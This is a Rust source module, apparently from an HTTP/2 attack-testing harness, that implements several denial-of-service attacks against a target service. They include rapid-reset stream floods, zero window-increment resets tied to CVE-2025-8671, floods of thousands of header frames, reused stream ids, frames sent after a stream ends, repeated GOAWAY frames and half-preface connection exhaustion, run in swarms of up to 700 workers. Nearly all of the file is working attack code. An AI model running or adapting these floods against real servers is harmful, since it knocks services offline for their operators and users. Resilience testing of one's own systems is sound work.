//! Attacks with streams.

use std::io;

use tokio::io::AsyncWriteExt as _;

use super::{
    connection::{flood, send_and_wait},
    frame::{Block, Frames, PREFACE, kind},
};
use crate::attack::scene::{Scene, hold};

/// The ids of a client's streams: odd ones, each larger than the last.
fn ids() -> impl FnMut() -> u32 {
    let mut next = 1;
    move || {
        next += 2;
        next - 2
    }
}

/// So many frames made one by one.
fn many_times(times: usize, mut make: impl FnMut(Frames) -> Frames) -> Frames {
    (0..times).fold(Frames::default(), |frames, _| make(frames))
}

fn get(scene: &Scene) -> Block {
    let path = format!("{}?limit=1", scene.products);
    Block::of("GET", &path, Some(scene.token()))
}

fn post(scene: &Scene) -> Block {
    Block::of("POST", &scene.products, Some(scene.token()))
        .field("content-type", "application/json")
}

pub(super) async fn rapid_reset(scene: Scene) {
    let work = |scene: Scene| async move {
        let (mut id, block) = (ids(), get(&scene));
        let next = || {
            many_times(100, |frames| {
                let id = id();
                frames
                    .request(id, &block)
                    .add(kind::RESET, 0, id, &[0, 0, 0, 8])
            })
        };
        flood(&scene, &[], next).await
    };
    scene.swarm(4, work).await;
}

/// A window increment of zero is a stream error (CVE-2025-8671).
pub(super) async fn made_to_reset(scene: Scene) {
    let work = |scene: Scene| async move {
        let (mut id, block) = (ids(), get(&scene));
        let next = || {
            many_times(100, |frames| {
                let id = id();
                frames.request(id, &block).window(id, 0)
            })
        };
        flood(&scene, &[], next).await
    };
    scene.swarm(4, work).await;
}

pub(super) async fn many(scene: Scene) {
    let work = |scene: Scene| async move {
        let (mut id, block) = (ids(), post(&scene));
        let heads = many_times(2000, |frames| frames.head(id(), &block));
        let opening = Frames::opening(&[]);
        send_and_wait(&scene, Frames([opening.0, heads.0].concat())).await
    };
    scene.swarm(20, work).await;
}

pub(super) async fn reused(scene: Scene) {
    let work = |scene: Scene| async move {
        let block = get(&scene);
        flood(&scene, &[], || {
            many_times(10, |frames| frames.request(1, &block))
        })
        .await
    };
    scene.swarm(20, work).await;
}

pub(super) async fn after_end(scene: Scene) {
    let work = |scene: Scene| async move {
        let (mut id, block) = (ids(), get(&scene));
        let next = || {
            many_times(20, |frames| {
                let id = id();
                let frames = frames.request(id, &block).data(id, b"more");
                frames.head(id, &block).data(id, &[])
            })
        };
        flood(&scene, &[], next).await
    };
    scene.swarm(20, work).await;
}

pub(super) async fn goaway(scene: Scene) {
    let work = |scene: Scene| async move {
        let (mut id, block) = (ids(), get(&scene));
        let next = || {
            many_times(20, |frames| {
                let frames = frames.add(kind::GOAWAY, 0, 0, &[0; 8]);
                frames.request(id(), &block)
            })
        };
        flood(&scene, &[], next).await
    };
    scene.swarm(20, work).await;
}

pub(super) async fn half_preface(scene: Scene) {
    let work = |scene: Scene| async move {
        let mut stream = scene.connect().await?;
        stream.write_all(&PREFACE[..12]).await?;
        hold().await;
        io::Result::Ok(())
    };
    scene.swarm(700, work).await;
}
